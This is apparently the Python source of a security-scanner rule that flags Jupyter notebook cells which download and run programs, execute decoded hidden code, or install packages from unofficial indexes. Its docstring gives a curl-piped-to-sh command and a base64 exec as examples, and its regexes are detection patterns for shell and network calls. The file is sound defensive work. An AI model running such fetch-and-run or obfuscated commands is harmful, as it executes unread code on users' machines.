"""The notebook downloads a program and runs it, or runs code that it hides.

Whoever opens a notebook runs its cells one after the other. A cell that pipes a download into a shell, or that executes
text which it decodes first, runs what nobody who read the notebook has read. Installing packages or calling programs in
the open is what notebooks are for, and is not reported.

Example: `!curl -s https://example.com/x | sh`, or `exec(base64.b64decode("…"))`.

Fix: do not run it. Ask its author for the program in the open.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Final

from hauberk.checks.model.expression import printable
from hauberk.checks.model.notebook_cells import cells, joined
from hauberk.checks.model.requirements_source import PUBLISHERS
from hauberk.checks.model.source_hides import PIPED, hidden
from hauberk.finding import Location, Severity
from hauberk.formats.text import python
from hauberk.formats.text.plain import TextDescription
from hauberk.rule import Rule, Sighting

if TYPE_CHECKING:
    from collections.abc import Iterator

_INSTALLS: Final = re.compile(
    r"^[ \t]*[!%]+[ \t]*(?:python[\d.]*[ \t]+-m[ \t]+)?(?:uv[ \t]+)?pip[\d.]*[ \t]+install[^\n]{0,2000}", re.MULTILINE
)
_INDEX: Final = re.compile(r"(?:--index-url|-i|--extra-index-url|--find-links|-f)[ =]+[\"']?(https?://[^\s\"']+)")
_ACTS: Final = re.compile(
    r"^[ \t]*![^\n]{1,120}|os\.(?:system|popen)|subprocess\.\w+|\b(?:exec|eval)\(|urlopen|requests\.\w+|socket\.",
    re.MULTILINE,
)


def look(text: TextDescription) -> Iterator[Sighting]:
    """Yield cells that run what cannot be read."""
    if text.format != "notebook":
        return
    for pointer, cell in cells(text.document):
        if cell.get("cell_type") != "code":
            continue
        place, source = Location(pointer=pointer), joined(cell.get("source", cell.get("input")))
        if found := PIPED.search(source):
            yield Sighting(place, printable(f"a cell says {found[0]}"))
        if place_of := _foreign(source):
            yield Sighting(place, printable(f"a cell installs from {place_of}"))
        if isinstance(meta := cell.get("metadata"), dict) and meta.get("init_cell") and (found := _ACTS.search(source)):
            yield Sighting(place, printable(f"a cell that runs when the notebook is opened says {found[0]}"))
        for what in hidden(python.read(source)):
            yield Sighting(place, printable(f"a cell says {what}"))


def _foreign(source: str) -> str | None:
    """Return the index or the address that is no publisher's own, from which a line installs packages."""
    for line in _INSTALLS.finditer(source):
        for match in _INDEX.finditer(line[0]):
            if not PUBLISHERS.match(match[1] + "/"):
                return match[1][:200]
    return None


RULE: Final = Rule(
    id="notebook-runs-hidden-code",
    title="the notebook runs what nobody can read in it",
    severity=Severity.HIGH,
    remedy="Do not run it. Ask its author for the program in the open.",
    references=("CWE-494", "CWE-506", "MITRE ATLAS AML.T0011", "OWASP ML06:2023"),
    reads=TextDescription,
    look=look,
    page=__doc__ or "",
)
